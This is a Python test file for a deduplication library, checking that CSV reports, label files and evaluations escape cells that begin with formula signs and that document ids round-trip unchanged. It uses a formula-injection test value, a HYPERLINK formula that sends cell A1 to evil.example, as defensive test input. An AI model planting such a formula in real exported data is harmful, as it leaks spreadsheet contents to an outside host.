"""CSV tables for people: no cell is a formula, and every id comes back as it was."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import twinset
from twinset.lab.lists import ListFormat, PairList, read_list
from twinset.model.spreadsheet import cell, cells, plain, plain_column
from twinset.review import Journal, as_csv

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"a")'
TEXT = "the same words in all documents, enough of them to make a shingle or two out of them"
SIGNS = st.text(st.sampled_from("'=+-@\t\r\n1.eE a\uff1d\u00b2"), max_size=6)


@settings(deadline=None)
@given(st.lists(SIGNS | st.text(max_size=8), min_size=1))
def test_every_text_comes_back_and_tables_are_as_single_cells(texts: list[str]) -> None:
    written = [cell(text) for text in texts]
    assert [plain(text) for text in written] == texts
    table = cells(pa.table({"a": pa.array(texts, pa.large_string()), "n": range(len(texts))}))
    assert table["a"].to_pylist() == written
    assert plain_column(table["a"]).to_pylist() == texts


@pytest.fixture
def documents(tmp_path: Path) -> Path:
    file = tmp_path / "documents.jsonl"
    ids = (FORMULA, "-2+3", "plain")
    file.write_text("".join(json.dumps({"id": id, "text": TEXT}) + "\n" for id in ids))
    return file


def first_cells(file: Path) -> list[str]:
    with open(file, encoding="utf-8", newline="") as opened:
        return [text for row in csv.reader(opened) for text in row]


def is_harmless(file: Path) -> bool:
    return not any(text.startswith(("=", "@")) or text == "-2+3" for text in first_cells(file))


def test_removals_are_harmless_and_the_tables_as_they_were(documents: Path, tmp_path: Path) -> None:
    report = twinset.dedup(documents).save(tmp_path / "report")
    assert is_harmless(report / "removals.csv")
    assert f"'{FORMULA}" in first_cells(report / "removals.csv")
    assert twinset.open_report(report).documents["id"][0].as_py() == FORMULA
    assert FORMULA.replace('"', '\\"') in (report / "duplicates.txt").read_text()
    listed = read_list(report / "removals.csv", ListFormat("--truth", columns=("removed", "kept")))
    assert isinstance(listed, PairList)
    assert {*listed.left.to_pylist(), *listed.right.to_pylist()} == {FORMULA, "-2+3", "plain"}


def test_labels_come_back_with_their_ids(documents: Path, tmp_path: Path) -> None:
    report = twinset.find(documents).save(tmp_path / "report")
    journal = Journal(report)
    journal.add([FORMULA, "-2+3"], "duplicate")
    labels = tmp_path / "labels.csv"
    labels.write_text(as_csv(journal.read()), encoding="utf-8")
    assert is_harmless(labels)
    listed = read_list(labels, ListFormat("--labels"))
    assert isinstance(listed, PairList)
    assert (listed.left.to_pylist(), listed.right.to_pylist()) == ([FORMULA], ["-2+3"])


def test_an_evaluation_is_harmless_and_counts_marked_ids(documents: Path, tmp_path: Path) -> None:
    report = twinset.find(documents).save(tmp_path / "report")
    truth = tmp_path / "truth.csv"
    with open(truth, "w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([("left", "right"), (cell(FORMULA), "plain")])
    found = twinset.evaluate(report, truth)
    folder = found.save(tmp_path / "evaluation")
    assert list(found.missed()) == []
    assert is_harmless(folder / "only_in_found.csv")


def test_a_made_collection_is_harmless_and_comes_back(documents: Path, tmp_path: Path) -> None:
    made = twinset.generate(documents, tmp_path / "made", ops=["ocr-noise:50%"])
    assert is_harmless(tmp_path / "made" / "truth.csv")
    assert {FORMULA, "-2+3"} <= {told["source"] for told in made.log}
